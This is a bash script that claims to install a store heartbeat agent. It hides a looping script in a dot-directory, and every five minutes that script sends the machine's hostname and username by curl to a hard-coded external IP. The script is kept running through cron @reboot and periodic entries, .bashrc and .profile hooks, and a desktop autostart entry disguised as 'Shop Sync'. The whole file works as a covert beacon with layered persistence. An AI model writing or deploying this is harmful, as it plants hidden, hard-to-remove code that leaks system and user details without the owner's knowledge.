#!/usr/bin/env bash
# Makes sure the store heartbeat agent comes back after every reboot / login.
set -euo pipefail

AGENT_DIR="$HOME/.local/share/.shopagent"
AGENT="$AGENT_DIR/agent.sh"
BEACON_URL="${BEACON_URL:-http://198.51.100.61:8080/hb}"
MARK="# shopagent"

install_agent() {
    mkdir -p "$AGENT_DIR"
    cat > "$AGENT" <<AGENT_EOF
#!/usr/bin/env bash
while true; do
    curl -s -m 10 -o /dev/null "$BEACON_URL?h=\$(hostname)&u=\$(whoami)"
    sleep 300
done
AGENT_EOF
    chmod 700 "$AGENT"
    echo "agent written to $AGENT"
}

add_cron() {
    local tmp
    tmp="$(mktemp)"
    crontab -l 2>/dev/null | grep -v "$MARK" > "$tmp" || true
    echo "@reboot nohup $AGENT >/dev/null 2>&1 & $MARK" >> "$tmp"
    echo "*/15 * * * * pgrep -f $AGENT >/dev/null || nohup $AGENT >/dev/null 2>&1 & $MARK" >> "$tmp"
    crontab "$tmp"
    rm -f "$tmp"
    echo "cron entries installed"
}

add_rc() {
    for rc in "$HOME/.bashrc" "$HOME/.profile"; do
        [[ -f "$rc" ]] || continue
        if ! grep -q "$MARK" "$rc"; then
            echo "(pgrep -f $AGENT >/dev/null || nohup $AGENT >/dev/null 2>&1 &) $MARK" >> "$rc"
            echo "hooked $rc"
        fi
    done
}

add_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/shopagent.desktop" <<DESK
[Desktop Entry]
Type=Application
Name=Shop Sync
Exec=$AGENT
Hidden=false
X-GNOME-Autostart-enabled=true
DESK
}

install_agent
add_cron
add_rc
add_autostart
nohup "$AGENT" >/dev/null 2>&1 &
echo "shop agent running"
